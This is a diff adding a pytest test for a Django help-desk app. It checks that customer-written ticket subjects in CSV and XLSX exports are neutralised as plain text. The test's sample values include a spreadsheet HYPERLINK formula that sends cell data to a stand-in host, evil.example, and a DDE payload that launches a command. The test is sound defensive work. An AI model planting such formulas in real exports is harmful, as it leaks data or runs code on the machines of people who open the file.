@@ -2,7 +2,7 @@
 
 import csv
 import io
-from datetime import date
+from datetime import date, datetime
 
 import openpyxl
 import pytest
@@ -10,6 +10,7 @@ from django.test import Client
 
 from serviceloop.accounts.choices import Role
 from serviceloop.analytics.tests import conftest as analytics_tests
+from serviceloop.tickets.models import Ticket
 from tests.builders import make_user
 
 # The analytics tests' fixtures: the hand-computed week and an analyst.
@@ -73,6 +74,31 @@ def test_tickets_export_as_csv_and_xlsx(week, analyst):
     assert sheet.max_row == 5  # header + 4 tickets
     numbers = {sheet.cell(row=r, column=1).value for r in range(2, 6)}
     assert numbers == {week.a.number, week.b.number, week.c.number, week.d.number}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(1)",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_customer_text_in_a_ticket_export_is_never_a_formula(week, analyst, formula):
+    Ticket.objects.filter(pk=week.a.pk).update(subject=formula)
+    client = signed_in(analyst)
+    response = client.get(f"/desk/analytics/export/tickets.csv?{WEEK}")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    subjects = {row[0]: row[2] for row in csv.reader(io.StringIO(text))}
+    assert subjects[week.a.number] == "'" + formula  # a spreadsheet shows it as text
+
+    response = client.get(f"/desk/analytics/export/tickets.xlsx?{WEEK}")
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    row = next(r for r in range(2, sheet.max_row + 1) if sheet.cell(r, 1).value == week.a.number)
+    cell = sheet.cell(row, 3)
+    assert (cell.data_type, cell.value) == ("s", formula)  # a text cell, not a formula
+    assert isinstance(sheet.cell(row, 2).value, datetime)  # times stay times
 
 
 def test_the_dashboard_exports_in_chinese(week, analyst):
